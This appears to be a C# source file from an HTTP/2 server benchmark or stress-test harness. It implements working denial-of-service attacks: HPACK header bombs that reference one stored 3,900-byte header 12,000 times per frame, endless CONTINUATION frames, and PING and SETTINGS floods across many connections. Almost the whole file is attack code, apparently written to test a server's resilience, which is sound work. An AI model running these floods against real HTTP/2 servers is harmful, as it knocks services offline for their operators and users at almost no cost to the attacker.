namespace Ptee.Bench.Attacks;

/// <summary>Connections that make the server work with frames that cost their sender next to nothing.</summary>
internal static class HeaderBombs
{
    private const int BombConnections = 40;
    private const int FloodConnections = 4;
    private const int KeptHeaderBytes = 3_900; // HPACK's table holds 4,096 bytes, 32 of them for each entry's sake.
    private const int References = 12_000; // In one frame of 16,384 bytes at most.
    private const byte Kept = 0x40;
    private const byte FirstOfTable = 0x80 | 62; // The newest entry after the 61 that every table has.
    private const int FramesOfFlood = 100;
    private static readonly TimeSpan BetweenFloods = TimeSpan.FromMilliseconds(20);

    /// <summary>Headers that inflate, and headers that never end.</summary>
    public static Task HeadersAsync(AttackTarget target, CancellationToken stop) =>
        RepeatAsync(target, BombConnections, TimeSpan.Zero, (attacker, round) => attacker % 2 == 0 ? Inflating(round) : Endless(round), stop);

    /// <summary>Pings and settings, each of which the server has to acknowledge: 20,000 a second.</summary>
    public static Task ControlFramesAsync(AttackTarget target, CancellationToken stop)
    {
        var pings = Many(Http2Frames.Of(Http2Kind.Ping, 0, 0, new byte[8]));
        var settings = Many(Http2Frames.Of(Http2Kind.Settings, 0, 0, []));
        return RepeatAsync(target, FloodConnections, BetweenFloods, (attacker, _) => attacker % 2 == 0 ? pings : settings, stop);
    }

    private static Task RepeatAsync(
        AttackTarget target, int connections, TimeSpan pause, Func<int, int, byte[]> bytes, CancellationToken stop) =>
        AttackTarget.RepeatAsync(connections, async (attacker, stop) =>
        {
            using var connection = await RawConnection.OpenAsync(target.Server, AttackTarget.From(attacker), target.Tally, stop);
            await connection.Settled.WaitAsync(stop);
            for (var round = 0; !connection.Ended.IsCompleted && await connection.SendAsync(bytes(attacker, round), stop); round++)
            {
                target.Tally.Sent();
                await Task.Delay(pause, stop);
            }
        }, stop);

    private static byte[] Many(byte[] frame) => Http2Frames.Join(Enumerable.Repeat(frame, FramesOfFlood));

    /// <summary>One header of 4 KB, and thousands of bytes each of which is that header again.</summary>
    private static byte[] Inflating(int round) => Http2Frames.Of(Http2Kind.Headers, Http2Frames.EndOfHeaders, (2 * round) + 1, Http2Frames.Join(
        Http2Frames.InferHeaders,
        Http2Frames.Header("x", new string('x', KeptHeaderBytes), Kept),
        [.. Enumerable.Repeat(FirstOfTable, References)]));

    /// <summary>The first part of a block of headers, then further ones.</summary>
    private static byte[] Endless(int round) => round == 0
        ? Http2Frames.Of(Http2Kind.Headers, flags: 0, stream: 1, Http2Frames.InferHeaders)
        : Http2Frames.Of(Http2Kind.Continuation, flags: 0, stream: 1, Http2Frames.Header("y", new string('y', KeptHeaderBytes)));
}
